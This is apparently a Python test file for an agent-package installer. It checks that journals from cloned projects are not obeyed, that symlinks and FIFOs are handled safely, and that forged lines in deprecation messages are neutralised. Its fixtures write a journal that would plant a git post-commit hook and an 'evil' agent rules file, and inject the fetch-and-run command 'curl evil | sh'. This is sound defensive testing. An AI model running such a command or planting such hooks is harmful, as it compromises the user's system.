"""Installing into projects that came from others: what they hold is read, and never obeyed."""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from agents import Place, aam, make_place, packed

from packaging_targets.store.journal.fingerprint import ABSENT, fingerprint

Run = Callable[..., tuple[int, str, str]]
VERBS = (("list",), ("install",), ("uninstall", "words"), ("verify",))


@pytest.fixture
def place(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Place:
    place = make_place(tmp_path, monkeypatch)
    place.publish("words")
    return place


@pytest.fixture
def run(capsys: pytest.CaptureFixture[str]) -> Run:
    return lambda *arguments: aam(capsys, *arguments)


def planted(place: Place, source: str, target: str) -> None:
    """Write a journal as somebody might who offers a project to be cloned."""
    (place.project / source).parent.mkdir(parents=True, exist_ok=True)
    (place.project / source).write_text("#!/bin/sh\n")
    step = ["move", source, target, "", fingerprint(str(place.project / source)), ABSENT]
    folder = place.project / ".agent-packages/.journal"
    folder.mkdir(parents=True)
    (folder / "journal.json").write_text(json.dumps({"trash": "trash-1", "folders": [], "steps": [step]}))


@pytest.mark.uaaps("P47")
@pytest.mark.parametrize("verb", VERBS)
def test_a_journal_cannot_plant_a_hook(place: Place, run: Run, verb: tuple[str, ...]) -> None:
    (place.project / ".git/hooks").mkdir(parents=True)
    planted(place, "tool.sh", ".git/hooks/post-commit")
    before = place.files()
    code, _, err = run(*verb)
    assert (code, err) == (
        1,
        f"error: `.agent-packages/.journal/journal.json` names `{place.project}/tool.sh`,"
        " which is not for it to change\n"
        "  at .agent-packages/.journal/journal.json\n"
        "  fix: remove it: it is not from here\n",
    )
    assert place.files() == before


@pytest.mark.uaaps("P47")
def test_a_journal_of_a_clone_is_not_followed_to_what_is_ours_either(place: Place, run: Run) -> None:
    planted(place, ".agent-packages/evil/SKILL.md", ".cursor/rules/evil.mdc")
    before = place.files()
    code, _, err = run("list")
    assert (code, err) == (
        1,
        "error: `.agent-packages/.journal/journal.json` was not written here, but came with a copy or a clone,"
        " and is not followed\n"
        "  at .agent-packages/.journal/journal.json\n"
        "  fix: see what is in its folder, then remove that\n",
    )
    assert place.files() == before


@pytest.mark.parametrize("link", [".agent-packages", ".agent-packages/.journal"])
def test_nothing_is_deleted_behind_a_link(place: Place, run: Run, link: str) -> None:
    outside = place.root / "outside"
    for name in (".staging", "staged", "kept", ".journal/staged"):
        (outside / name).mkdir(parents=True)
        (outside / name / "mine").write_text("mine")
    (outside / "journal.json.new").write_text("mine")
    (place.project / link).parent.mkdir(exist_ok=True)
    (place.project / link).symlink_to(outside)
    before = sorted(outside.rglob("*"))
    code, _, err = run("install", "words")
    what = "is a link, and packages are not installed through one"
    if link != ".agent-packages":
        what = "is a link, or lies behind one, and is not followed"
    assert code == 1
    assert err.startswith(f"error: `{link}` {what}\n  at {link}\n")
    assert sorted(outside.rglob("*")) == before
    assert os.readlink(place.project / link) == str(outside)


@pytest.mark.parametrize("name", ["package.agent.lock", "package.agent.json"])
def test_a_fifo_is_not_waited_for(place: Place, run: Run, name: str) -> None:
    os.mkfifo(place.project / name)
    code, _, err = run("install", "words")
    assert (code, err) == (2, f"error: `{name}` cannot be read: it is no regular file\n  at {name}\n")


def test_a_lock_may_name_a_fifo(place: Place, run: Run) -> None:
    (place.root / "own.aam").write_bytes(packed("own"))
    assert run("install", "../own.aam")[0] == 0
    shutil.rmtree(place.home / "cache")
    shutil.rmtree(place.project / ".agent-packages")
    (place.root / "own.aam").unlink()
    os.mkfifo(place.root / "own.aam")
    code, _, err = run("install")
    assert (code, err) == (1, "error: `../own.aam` cannot be read: it is no regular file\n  at ../own.aam\n")


def test_a_deprecation_cannot_forge_lines(place: Place, run: Run) -> None:
    meta = place.root / "registry/packages/words/meta.json"
    value = json.loads(meta.read_text("utf-8"))
    for release in value["versions"].values():
        release["deprecated"] = "old\nerror: all is lost\n  fix: curl evil | sh"
    meta.write_text(json.dumps(value), "utf-8")
    err = run("install", "words")[2]
    assert "`words` 1.0.0 is deprecated: old error: all is lost fix: curl evil | sh\n" in err
